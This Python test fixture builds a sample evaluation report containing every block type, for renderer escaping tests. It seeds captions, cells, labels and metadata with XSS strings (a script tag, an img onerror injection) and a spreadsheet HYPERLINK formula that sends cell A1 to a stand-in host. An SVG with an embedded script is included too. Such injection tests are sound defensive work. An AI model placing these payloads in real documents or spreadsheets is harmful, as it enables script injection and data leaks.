"""A small report document with every block type, for the renderer tests.

Text from "data" (cells, captions, notes, labels) carries hostile strings: markup that
an unescaped renderer would run, and formulas that a spreadsheet would.
"""

from __future__ import annotations

import struct
import zlib

import numpy as np
import pandas as pd

from noream_eval.reports.document import (
    BulletList,
    Callout,
    Document,
    Figure,
    Heading,
    KeyValue,
    Paragraph,
    Section,
    Table,
)

SCRIPT = "<script>alert(1)</script>"
ONERROR = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def png_bytes(width: int = 40, height: int = 20) -> bytes:
    """A valid RGB PNG (a grey gradient), written without any imaging library."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(
        b"\x00" + bytes(v for x in range(width) for v in (x * 6 % 256,) * 3) for _ in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def svg_bytes(ident: str = "patch_1") -> bytes:
    """A small SVG with an id (as matplotlib writes) and a script, which an <img> never runs."""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="200pt" height="100pt" '
        'viewBox="0 0 200 100">'
        f'<rect id="{ident}" x="10" y="10" width="80" height="60" fill="#1d70b8"/>'
        "<script>alert(1)</script></svg>"
    ).encode()


def counts_table() -> Table:
    frame = pd.DataFrame(
        {
            "group": ["Pilot", "Comparison", SCRIPT, FORMULA],
            "families": [120, "c", 1234, 0],
            "share": [0.1234, 0.5, "c", "x"],
            "cost": [12345.6, -250.0, np.nan, "z"],
            "p": [0.0004, 0.0123, 0.5, "x"],
            "rating": ["green", "amber", "red", "x"],
        }
    )
    return Table(
        frame=frame,
        kinds={
            "families": "count",
            "share": "share",
            "cost": "gbp",
            "p": "p_value",
            "rating": "rag",
        },
        labels={
            "group": "Group",
            "families": "Families",
            "share": "Share re-referred",
            "cost": f"Cost {ONERROR}",
            "p": "p-value",
            "rating": "Rating",
        },
        caption=f"Families by group {SCRIPT}",
        note=f"Counts of 1 to 5 are suppressed. {ONERROR}",
        source="Sample data, local authority case records",
        anchor="tab-counts",
        name="families_by_group",
    )


def numbers_table() -> Table:
    frame = pd.DataFrame(
        {
            "month": [pd.Timestamp("2025-03-01"), pd.Timestamp("2025-04-01")],
            "n": pd.array([10, 2_000_000], dtype="Int64"),
            "mean": [1.25, 2.675],
            "sd": [0.5, 0.0005],
            "ratio": [1.0, 3.14159],
            "pct": [12.34, 99.95],
            "label": ["-5 days", "@risk"],
        }
    )
    return Table(
        frame=frame,
        kinds={
            "month": "date",
            "n": "integer",
            "mean": "number1",
            "sd": "number2",
            "ratio": "number3",
            "pct": "percent",
        },
        caption="Numbers of every kind",
        anchor="tab-numbers",
        name="numbers: every kind [all]",
    )


def example_document() -> Document:
    """A document that holds every block type, nested sections and internal links."""
    table = counts_table()
    other = numbers_table()
    figure = Figure(
        caption=f"Re-referrals by month {SCRIPT}",
        alt=f"A bar chart; the pilot bar is lower. {ONERROR}",
        anchor="fig-bars",
        png=png_bytes(),
        svg=svg_bytes(),
        note="Bars show the share re-referred within 12 months.",
    )
    png_only = Figure(
        caption="A PNG-only figure",
        alt="A grey gradient.",
        anchor="fig-png",
        png=png_bytes(30, 30),
        name="gradient",
    )
    return Document(
        title=f"NOREAM pilot evaluation {SCRIPT}",
        subtitle="Interim report",
        metadata={"Data cut": "31 Mar 2025", "Version": ONERROR},
        sections=[
            Section(
                "Summary",
                "summary",
                (
                    Paragraph(
                        f"The pilot **reduced** re-referrals; see [Table 1](#tab-counts) and "
                        f"[the method](#method). {SCRIPT} [a](https://example.org)"
                    ),
                    BulletList(("First **point**", f"Second {ONERROR}")),
                    BulletList(("One", "Two", "Three"), ordered=True),
                    Callout("note", "A note.\n\nWith a second paragraph."),
                    Callout("warning", f"Small numbers {SCRIPT}", title="Read with care"),
                    Callout("scenario", "If 10 more families ...", anchor="scenario-1"),
                ),
            ),
            Section(
                "Results",
                "results",
                (table, figure),
                subsections=(
                    Section(
                        "Detail",
                        "detail",
                        (Heading("A minor heading", anchor="minor"), other, png_only),
                        subsections=(Section("Deeper", "deeper", (Paragraph("Deep text."),)),),
                    ),
                ),
            ),
            Section(
                "Method",
                "method",
                (
                    KeyValue(
                        {"Config": "evaluation.toml", "Formula": FORMULA, "Script": SCRIPT},
                        caption="Provenance",
                        anchor="provenance",
                    ),
                ),
            ),
        ],
    )
